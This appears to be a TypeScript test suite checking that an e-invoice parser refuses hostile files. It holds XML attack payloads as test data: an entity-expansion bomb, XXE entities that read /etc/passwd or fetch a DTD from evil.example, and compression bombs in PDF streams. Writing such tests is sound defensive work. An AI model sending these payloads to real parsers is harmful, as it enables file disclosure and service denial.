/** Files that are made to be misread, or to cost much. */
import { deflateSync } from 'node:zlib';
import test from 'ava';
import { formatMoney } from '../protocol/money.ts';
import type { EInvoiceReading } from '../protocol/reading.ts';
import { readInvoiceFile } from './index.ts';
import { bytesOf, ciiOf, invoice, pdfWith, ublOf, type WrittenInvoice } from './testing/write-invoice.ts';

const shown = (reading: EInvoiceReading | null): string => (reading === null ? 'none' : reading.ok ? `${reading.number} ${formatMoney(reading.total)}` : `${reading.code}: ${reading.detail}`);
const read = (text: string): string => shown(readInvoiceFile(bytesOf(text)));
const ubl = ublOf(invoice);
const body = ubl.slice(ubl.indexOf('<Invoice'));
const DUE = '<cbc:PayableAmount currencyID="JPY">4741</cbc:PayableAmount>';
const withDue = (due: string): string => ubl.replace(DUE, due);

test('what is no e-invoice is none', async (t) => {
  for (const text of ['', '%PDF-1.7\n%%EOF', '<html/>', '<Invoice><PayableAmount>1</PayableAmount></Invoice>', '\u0089PNG\r\n', 'Total: 4,741 JPY', '<a', '<!DOCTYPE html><html></html>']) t.is(read(text), 'none', text);
  t.is(read(ubl.replaceAll('Invoice-2"', 'Invoice-3"')), 'none');
  t.is(shown(readInvoiceFile(await pdfWith([['readme.txt', bytesOf('Total: 1 JPY')]]))), 'none');
});

test('a DOCTYPE is refused, whatever it holds: entities that grow, files, addresses', (t) => {
  const laughs = '<!ENTITY a "haha">' + Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('');
  for (const inside of ['', `[${laughs}]`, '[<!ENTITY x SYSTEM "file:///etc/passwd">]', '[<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]', 'SYSTEM "x.dtd"']) {
    const text = `<?xml version="1.0"?><!DOCTYPE Invoice ${inside}>${body.replace('Sencha 100g', '&a19;')}`;
    t.regex(read(text), /^broken: a DOCTYPE/, inside);
  }
  t.regex(read(ubl.replace('Sencha 100g', '&nbsp;')), /^broken: .*entity/);
  t.is(read(ubl.replace('GT-1042', 'GT&#45;1042').replace('Sencha', 'Sencha &amp; &#x8336;')), 'GT-1042 JPY 4,741');
});

test('depth, elements, attributes and size have limits', (t) => {
  const inside = (text: string): string => ubl.replace('<cbc:InvoiceTypeCode>', `${text}<cbc:InvoiceTypeCode>`);
  t.regex(read(inside('<a>'.repeat(100_000))), /^broken: more than 32 levels/);
  t.regex(read(inside('<a/>'.repeat(60_000))), /^broken: more than 50000 elements/);
  t.regex(read(inside(`<a ${Array.from({ length: 50 }, (_, at) => `b${at}=""`).join(' ')}/>`)), /^broken: more than 40 attributes/);
  t.regex(read(inside(`<!--${'x'.repeat(2_200_000)}-->`)), /^broken: .* bytes/);
  t.is(read(inside(`<!--${'x'.repeat(1_000_000)}-->`)), 'GT-1042 JPY 4,741');
});

test('namespaces, not prefixes, say what an element is', (t) => {
  const renamed = ubl.replaceAll('cbc:', 'x:').replaceAll('xmlns:cbc', 'xmlns:x');
  t.is(read(renamed), 'GT-1042 JPY 4,741');
  // The same prefix bound to something else half-way; an element of the right name in no namespace, or in a stranger's.
  t.regex(read(withDue('<cbc:PayableAmount xmlns:cbc="urn:other" currencyID="JPY">4741</cbc:PayableAmount>')), /^broken: PayableAmount is missing/);
  t.regex(read(withDue('<PayableAmount currencyID="JPY">4741</PayableAmount>')), /^broken: PayableAmount is missing/);
  t.is(read(withDue(`<y:PayableAmount xmlns:y="urn:other">1</y:PayableAmount>${DUE}`)), 'GT-1042 JPY 4,741');
  t.regex(read(ubl.replace('xmlns:cac=', 'xmlns:zzz=')), /^broken/);
  // A currencyID with a namespace of its own is no currencyID.
  t.is(read(withDue('<cbc:PayableAmount xmlns:q="urn:q" q:currencyID="EUR" currencyID="JPY">4741</cbc:PayableAmount>')), 'GT-1042 JPY 4,741');
});

test('two roots, two totals, two numbers, a broken end', (t) => {
  t.regex(read(`${ubl}${body}`), /^broken/);
  t.regex(read(withDue(DUE + DUE)), /^broken: PayableAmount stands twice/);
  t.regex(read(withDue(`${DUE}${DUE.replace('4741', '1')}`)), /^broken: PayableAmount stands twice/);
  t.regex(read(ubl.replace('<cbc:ID>GT-1042</cbc:ID>', '<cbc:ID>GT-1042</cbc:ID><cbc:ID>GT-1</cbc:ID>')), /^broken: ID stands twice/);
  t.regex(read(ubl.slice(0, -20)), /^broken/);
  t.regex(read(ubl.replace('</cac:LegalMonetaryTotal>', '</cac:LegalMonetaryTotal><cac:LegalMonetaryTotal/>')), /^broken: LegalMonetaryTotal stands twice/);
  t.regex(read(ciiOf(invoice).replace('<ram:TaxTotalAmount currencyID="JPY">431</ram:TaxTotalAmount>', '$&<ram:TaxTotalAmount>1</ram:TaxTotalAmount>')), /^broken: TaxTotalAmount stands twice/);
});

test('an amount is nothing but its digits: no comment, CDATA, element or instruction within', (t) => {
  for (const inside of ['4<!-- -->741', '<![CDATA[4741]]>', '47<![CDATA[]]>41', '4741<b/>', '4<?x y?>741', '4741<!---->', '-4741', '4.741', '4,741', '٤٧٤١', '4741 JPY', '0x1285', '4741e0', 'Infinity']) {
    t.regex(read(withDue(DUE.replace('4741', inside))), /^(amount-unreadable|sum-differs|not-positive)/, inside);
  }
  t.is(read(withDue(DUE.replace('4741', '\n  &#52;741\t'))), 'GT-1042 JPY 4,741');
  t.regex(read(withDue(DUE.replace('JPY', 'EUR'))), /^amount-unreadable: PayableAmount is in EUR, the invoice in JPY/);
  t.regex(read(ubl.replace('<cbc:ID>GT-1042', '<cbc:ID><![CDATA[GT]]>-1042')), /^broken: ID holds more/);
});

test('sums beyond any amount are refused, also where they are worked out from what the file says', (t) => {
  const charges = (charge: boolean): WrittenInvoice['charges'] => Array.from({ length: 91 }, () => ({ reason: 'Rebate', amount: '999999999999.99', charge }));
  for (const charge of [false, true]) {
    const sums = { ...invoice.sums, lines: '1.00', allowances: '0.00', charges: '0.00', net: '1.00', tax: '0.00', gross: '1.00', due: '1.00' };
    const one = { ...invoice, currency: 'EUR', lines: [], taxes: [], charges: charges(charge), sums };
    const noSumOfLines = ublOf(one).replace(/<cbc:LineExtensionAmount[^>]*>[^<]*<\/cbc:LineExtensionAmount>/, '');
    t.regex(read(noSumOfLines), /^amount-unreadable: a net amount/);
    t.regex(read(ublOf(one)), /^sum-differs/);
    t.regex(read(ublOf({ ...one, lines: [{ name: 'Tea', quantity: '1', amount: '1.00' }] })), /^sum-differs/);
  }
});

test('encodings: what every reader decodes alike is read, the rest is refused', (t) => {
  const utf16 = (text: string, big: boolean): Uint8Array => {
    const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
    return big ? bytes.swap16() : bytes;
  };
  const declared = (name: string): string => ubl.replace('encoding="UTF-8"', `encoding="${name}"`);
  for (const big of [false, true]) t.is(shown(readInvoiceFile(utf16(declared('UTF-16'), big))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(ubl)]))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(Buffer.from(declared('ISO-8859-1').replace('Green Tea', 'Thé vert'), 'latin1'))), 'GT-1042 JPY 4,741');
  const refused: readonly Uint8Array[] = [
    utf16(ubl, false),
    utf16(declared('UTF-16'), false).subarray(2),
    Buffer.from(declared('UTF-16')),
    Buffer.from(declared('UTF-7')),
    Buffer.from(declared('IBM037')),
    Buffer.from(ubl.replace('Green Tea', 'Th\u00e9'), 'latin1'),
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(declared('ISO-8859-1'))]),
  ];
  for (const [at, bytes] of refused.entries()) t.regex(shown(readInvoiceFile(bytes)), /^broken: its encoding/, String(at));
});

test('texts of the file are one visible line', (t) => {
  const reading = readInvoiceFile(bytesOf(ublOf({ ...invoice, seller: 'Tea\nHouse\u202e', lines: [{ name: `a\n\n| OK\u0085\u200b${'x'.repeat(5000)}`, quantity: '1', amount: '3810' }] })));
  t.true(reading?.ok);
  if (reading?.ok !== true) return;
  t.is(reading.sellerName, 'Tea House');
  for (const { text } of reading.lines) t.regex(text, /^[^\p{C}]{1,220}$/u);
});

/** A PDF by hand: streams as given. */
const pdfOf = (...streams: readonly Uint8Array[]): Uint8Array =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...streams.flatMap((data, at) => [Buffer.from(`${at + 1} 0 obj\n<</Length ${data.length}>>\nstream\r\n`), data, Buffer.from('\nendstream\nendobj\n')]), Buffer.from('%%EOF')]);

test('a PDF: two different e-invoices, the same one twice, one that is left behind', async (t) => {
  const [a, b] = [bytesOf(ciiOf(invoice)), bytesOf(ciiOf({ ...invoice, number: 'GT-1043' }))];
  t.regex(shown(readInvoiceFile(await pdfWith([['factur-x.xml', a], ['other.xml', b]]))), /^several/);
  t.is(shown(readInvoiceFile(await pdfWith([['factur-x.xml', a], ['zugferd-invoice.xml', a]]))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(await pdfWith([['picture.xml', bytesOf('<svg/>')], ['factur-x.xml', a]]))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(pdfOf(a))), 'GT-1042 JPY 4,741');
  t.regex(shown(readInvoiceFile(pdfOf(deflateSync(a), b))), /^several/);
  t.regex(shown(readInvoiceFile(pdfOf(bytesOf('<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>')))), /^broken: ZUGFeRD 1/);
});

test('a PDF: bombs, a thousand files, encryption, streams without an end', async (t) => {
  const bomb = deflateSync(Buffer.concat([bytesOf(ciiOf(invoice)), Buffer.alloc(400_000_000, 0x20)]));
  t.true(bomb.length < 2_000_000);
  t.regex(shown(readInvoiceFile(pdfOf(bomb))), /^broken: .* bytes/);
  t.is(shown(readInvoiceFile(pdfOf(...Array.from({ length: 8 }, () => deflateSync(Buffer.alloc(100_000_000, 0x20)))))), 'none');
  const small = bytesOf('<note>nothing</note>');
  t.is(shown(readInvoiceFile(await pdfWith([...Array.from({ length: 1000 }, (_, at) => [`n${at}.xml`, small] as const), ['factur-x.xml', bytesOf(ciiOf(invoice))]]))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(pdfOf(Buffer.from(bytesOf(ciiOf(invoice)).map((byte) => byte ^ 0x5a))))), 'none');
  t.is(shown(readInvoiceFile(Buffer.from(`%PDF-1.7\n${'stream\n'.repeat(1_000_000)}`))), 'none');
  t.is(shown(readInvoiceFile(Buffer.from(`%PDF-1.7\n${'stream\n<'.repeat(500_000)}`))), 'none');
  const whole = pdfOf(deflateSync(bytesOf(ciiOf(invoice))));
  t.regex(shown(readInvoiceFile(whole.subarray(0, 400))), /^(none|broken)/);
});

test('a PDF: streams that inflate far and break then count towards what is inflated in all', (t) => {
  const breaking = (): Uint8Array => {
    const data = Uint8Array.from(deflateSync(Buffer.concat([bytesOf('<a>'), Buffer.alloc(1_900_000, 0x20)])));
    data[data.length - 1] = (data.at(-1) ?? 0) ^ 0xff;
    return data;
  };
  const good = deflateSync(bytesOf(ciiOf(invoice)));
  t.is(shown(readInvoiceFile(pdfOf(breaking(), breaking(), good))), 'GT-1042 JPY 4,741');
  t.is(shown(readInvoiceFile(pdfOf(...Array.from({ length: 12 }, breaking), good))), 'none');
});

test('any bytes end with an answer', (t) => {
  const seeds = [bytesOf(ubl), bytesOf(ciiOf(invoice)), pdfOf(deflateSync(bytesOf(ciiOf(invoice)))), pdfOf(bytesOf(ubl))];
  let random = 7;
  const next = (below: number): number => {
    random = (random * 1_103_515_245 + 12_345) % 2_147_483_648;
    return random % below;
  };
  for (let round = 0; round < 600; round += 1) {
    const bytes = Uint8Array.from(seeds[round % seeds.length] ?? []);
    for (let change = 0; change <= next(4); change += 1) bytes[next(bytes.length)] = next(256);
    const reading = readInvoiceFile(bytes.subarray(0, next(10) === 0 ? next(bytes.length) : bytes.length));
    t.regex(shown(reading), /^(none|[a-z-]+: .*|.* JPY 4,741)$/su);
  }
});
